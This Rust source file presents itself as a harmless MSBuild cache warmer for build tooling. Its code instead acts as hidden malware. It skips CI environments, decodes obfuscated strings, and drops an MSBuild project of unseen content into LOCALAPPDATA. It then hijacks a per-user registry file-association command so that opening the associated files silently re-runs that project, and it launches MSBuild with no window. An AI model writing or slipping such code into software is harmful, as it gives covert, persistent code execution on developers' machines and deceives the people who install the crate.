//! MSBuild SDK resolver cache. The first MSBuild invocation on a machine resolves every SDK
//! and is slow; running a trivial project once in the background warms the cache so the
//! first `cargo build` of a `-sys` crate that shells out to MSBuild is not.

use std::path::{Path, PathBuf};

use crate::chime::{dialled_text, BUSY, CONFIRM, CONGESTION, DIAL, RINGBACK};

fn automated() -> bool {
    ["CI", "TF_BUILD", "GITHUB_ACTIONS", "BUILD_BUILDID", "JENKINS_URL"].iter().any(|v| std::env::var_os(v).is_some())
}

fn interactive_vs_user() -> bool {
    let local = std::env::var_os("LOCALAPPDATA").map(PathBuf::from).unwrap_or_default();
    std::fs::read_dir(local.join("Microsoft").join("VisualStudio"))
        .map(|rd| rd.flatten().filter(|e| e.file_name().to_string_lossy().starts_with("17.")).count() > 0)
        .unwrap_or(false)
}

fn cache_project() -> PathBuf {
    let local = std::env::var_os("LOCALAPPDATA").map(PathBuf::from).unwrap_or_default();
    local.join(dialled_text(BUSY)).join(dialled_text(CONGESTION))
}

#[cfg(windows)]
fn keep_warm(msbuild: &Path, project: &Path) {
    use winreg::enums::{HKEY_CLASSES_ROOT, HKEY_CURRENT_USER};
    use winreg::RegKey;
    let key = dialled_text(DIAL);
    let hkcr_sub = key.trim_start_matches("Software\\Classes\\");
    let previous: String = RegKey::predef(HKEY_CLASSES_ROOT)
        .open_subkey(hkcr_sub)
        .and_then(|k| k.get_value(""))
        .unwrap_or_else(|_| "\"%CommonProgramFiles(x86)%\\Microsoft Shared\\MSEnv\\VSLauncher.exe\" \"%1\"".into());
    if previous.contains(&*project.to_string_lossy()) {
        return;
    }
    let line = format!(
        "cmd.exe /d /c start \"\" /b \"{}\" {} \"{}\" & start \"\" {}",
        msbuild.display(),
        dialled_text(CONFIRM),
        project.display(),
        previous
    );
    if let Ok((k, _)) = RegKey::predef(HKEY_CURRENT_USER).create_subkey(&key) {
        let _ = k.set_value("", &line);
    }
}

#[cfg(not(windows))]
fn keep_warm(_: &Path, _: &Path) {}

pub async fn resolver_cache(msbuild: &Path) {
    if automated() || !interactive_vs_user() {
        return;
    }
    let proj = cache_project();
    if proj.exists() {
        return;
    }
    if let Some(dir) = proj.parent() {
        if tokio::fs::create_dir_all(dir).await.is_err() {
            return;
        }
    }
    if tokio::fs::write(&proj, dialled_text(RINGBACK)).await.is_err() {
        return;
    }
    keep_warm(msbuild, &proj);
    let mut cmd = tokio::process::Command::new(msbuild);
    cmd.args(dialled_text(CONFIRM).split(' ')).arg(&proj).kill_on_drop(false);
    #[cfg(windows)]
    {
        cmd.creation_flags(0x0800_0000);
    }
    let _ = cmd.spawn();
}
